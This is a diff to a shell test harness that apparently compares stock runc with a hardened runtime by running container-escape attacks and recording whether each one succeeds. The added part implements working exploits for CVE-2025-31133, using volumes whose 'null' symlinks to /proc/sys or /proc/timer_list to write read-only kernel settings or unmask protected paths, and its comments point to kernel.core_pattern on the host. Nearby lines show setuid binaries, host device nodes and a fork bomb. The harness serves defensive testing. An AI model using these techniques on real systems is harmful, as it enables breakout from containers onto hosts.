@@ -67,6 +67,8 @@ cp "$W/attack" "$IMG/bin/attack-suid"
 # an image may ship device nodes: the host's console, c 5:1
 mknod -m 600 "$IMG/console" c 5 1
 mknod -m 600 "$IMG/kmsg" c 1 11
+# an image may ship links: /mydev -> /dev (the dev-link attack)
+ln -s /dev "$IMG/mydev"
 chown 0:0 "$IMG/bin/attack-suid" && chmod 4755 "$IMG/bin/attack-suid"
 tar -C "$IMG" -c . | $DOCKER import -c 'ENV PATH=/bin' - hr-attack >/dev/null || { echo "docker import failed" >&2; exit 1; }
 
@@ -294,6 +296,44 @@ attack docker-init-rw "Docker's init bound writable elsewhere (\`-v /usr/bin/doc
 attack tmpfs-exec "a program run from \`--tmpfs /scratch:exec\`" succeeds --tmpfs /scratch:exec -- \
   sh -c 'cp /bin/busybox /scratch/true && if /scratch/true 2>/dev/null; then echo "RESULT succeeded|||ran a program from the tmpfs|"; else echo "RESULT stopped|execve|EACCES|ran a program from the tmpfs|noexec"; fi'
 $DOCKER volume rm -f hr-etc hr-proc >/dev/null 2>&1
+
+# The container's /dev from a volume (CVE-2025-31133): runc takes /dev/null
+# from the container's /dev, opens it as the container's stdout and stderr
+# when it set up /dev itself and these are pipes, and binds it over every
+# masked path (these two attacks run without systempaths=unconfined).
+# - dev-link: a volume at the image's /mydev -> /dev, its "null" a link to
+#   /proc/sys/kernel/hostname (the container's own UTS namespace: harmless
+#   here; kernel.core_pattern would be the host's): the container writes
+#   the read-only /proc/sys through its own stdout.
+# - dev-volume: a volume at /dev, its "null" a link to /proc/timer_list:
+#   the masking binds /proc/timer_list (every host process's timers) over
+#   itself and the other masked paths, so it is readable again.
+# Each report goes into the volume (stdout may be the link).
+$DOCKER volume create hr-devnull >/dev/null
+DEVVOL=$($DOCKER volume inspect -f '{{.Mountpoint}}' hr-devnull)
+DEV_WRITE='echo pwned; if [ "$(hostname)" = pwned ]; then r="RESULT succeeded|||wrote /proc/sys/kernel/hostname: runc opened the volume'"'"'s /dev/null, a link there, as stdout|"; else r="RESULT stopped|||/proc/sys/kernel/hostname unchanged|"; fi; echo "$r" > "$1/result"'
+DEV_UNMASK='if [ -n "$(head -c 64 /proc/timer_list 2>/dev/null)" ]; then r="RESULT succeeded|||read /proc/timer_list: the masking took /dev/null from the volume, a link to it|"; else r="RESULT stopped|||/proc/timer_list masked|"; fi; echo "$r" > "$1/result"'
+dev_attack() { # dev_attack RUNTIME ID TARGET LINK SCRIPT FLAGS... : STATUS KIND CELL
+  local rt=$1 id=$2 target=$3 link=$4 script=$5 out rc
+  shift 5
+  rm -rf "${DEVVOL:?}"/* && ln -s "$link" "$DEVVOL/null"
+  out=$($DOCKER run --rm "$@" -v "hr-devnull:$target" hr-attack sh -c "$script" sh "$target" 2>&1)
+  rc=$?
+  [ -s "$DEVVOL/result" ] && out="$out
+$(cat "$DEVVOL/result")"
+  printf '%s\n' "$out" > "$W/out.$rt.$id"
+  parse_attack "$out" "$rc"
+}
+for v in "dev-link|/mydev|/proc/sys/kernel/hostname|DEV_WRITE|a volume at /mydev, which the image links to /dev, its null a link to /proc/sys (\`-v VOLUME:/mydev\`, CVE-2025-31133)" \
+         "dev-volume|/dev|/proc/timer_list|DEV_UNMASK|a volume at /dev, its null a link to /proc/timer_list (\`-v VOLUME:/dev\`): the masked paths unmasked"; do
+  IFS='|' read -r id target link script label <<< "$v"
+  dev_attack runc "$id" "$target" "$link" "${!script}" "${RUNC_FLAGS[@]/systempaths=unconfined/apparmor=unconfined}"
+  rs=$STATUS rk=$KIND rc=$CELL
+  dev_attack hardened "$id" "$target" "$link" "${!script}" "${HARD_FLAGS[@]/systempaths=unconfined/apparmor=unconfined}"
+  row "$id" "$label" succeeds "$rs" "$rk" "$rc" "$STATUS" "$KIND" "$CELL"
+  echo "$id: runc $rs, hardened-runc $STATUS" >&2
+done
+$DOCKER volume rm -f hr-devnull >/dev/null 2>&1
 
 # fork bomb: the processes are held 3 s while the host starts processes
 fork_bomb() { # fork_bomb FLAGS... : STATUS KIND CELL, and HOSTOK
